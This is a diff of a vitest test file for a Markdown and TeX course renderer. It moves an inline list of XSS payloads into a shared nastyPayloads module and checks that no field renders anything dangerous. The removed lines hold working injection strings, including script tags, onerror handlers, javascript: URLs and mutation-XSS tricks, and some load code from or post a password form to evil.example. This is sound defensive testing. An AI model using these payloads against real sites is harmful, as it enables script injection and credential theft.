@@ -1,77 +1,8 @@
 import { parseHTML } from 'linkedom';
 import { expect, test } from 'vitest';
 import { renderFigure } from '../figures/figure.ts';
+import { nastyPayloads } from '../testing/nastyPayloads.ts';
 import { renderInline, renderMarkdown } from './markdown.ts';
-
-/** What has broken out of other editors: HTML, links, entities, Markdown, TeX, SVG and mixtures of them. */
-const payloads = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '"><img src=x onerror=alert(1)>',
-  "'><svg/onload=alert(1)>",
-  '<svg><script>alert(1)</script></svg>',
-  '<svg onload="alert(1)"><animate attributeName=href values=javascript:alert(1) /></svg>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=password></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<body onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '</p></details></section></span><script>alert(1)</script>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#x3c;img src=x onerror=alert(1)&#x3e;',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](javascript&colon;alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](\u0001javascript:alert(1))',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](//evil.example)',
-  '[x](/\\evil.example)',
-  '[x](https://safe.example "onmouseover=alert(1)")',
-  '[x](<javascript:alert(1)>)',
-  '[x][y]\n\n[y]: javascript:alert(1)',
-  '<javascript:alert(1)>',
-  '![x](https://evil.example/a.png)',
-  '![x](x" onerror="alert(1))',
-  '[![x](javascript:alert(1))](javascript:alert(1))',
-  '`<img src=x onerror=alert(1)>`',
-  '```<script>\nalert(1)\n```',
-  '``` "onmouseover="alert(1)\nx\n```',
-  '$\\href{javascript:alert(1)}{x}$',
-  '$\\url{javascript:alert(1)}$',
-  '$\\includegraphics{https://evil.example/a.png}$',
-  '$\\htmlData{x="onerror=alert(1)}{x}$',
-  '$\\htmlStyle{background:url(https://evil.example)}{x}$',
-  '$\\text{<img src=x onerror=alert(1)>}$',
-  '$\\text{"><script>alert(1)</script>}$',
-  '$x<script>alert(1)</script>$',
-  '$\\unicode{<script>}$',
-  '::: example "><script>alert(1)</script>\nx\n:::',
-  '::: idea onclick=alert(1)\nx\n:::',
-  '| <img src=x onerror=alert(1)> |\n|--|\n| [x](javascript:alert(1)) |',
-  '{{constructor.constructor("alert(1)")()}}',
-  '\u202e<script>alert(1)</script>',
-];
 
 /** Every place of a course where an author's words become HTML. */
 const fields: Record<string, (payload: string) => string> = {
@@ -106,7 +37,7 @@ const fields: Record<string, (payload: string) => string> = {
     ),
 };
 
-test.each(payloads)('%j does nothing in any field', (payload) => {
+test.each(nastyPayloads)('%j does nothing in any field', (payload) => {
   const found = Object.entries(fields).map(([field, render]) => ({ field, dangers: dangersIn(render(payload)) }));
   expect(found.filter(({ dangers }) => dangers.length > 0)).toEqual([]);
 });
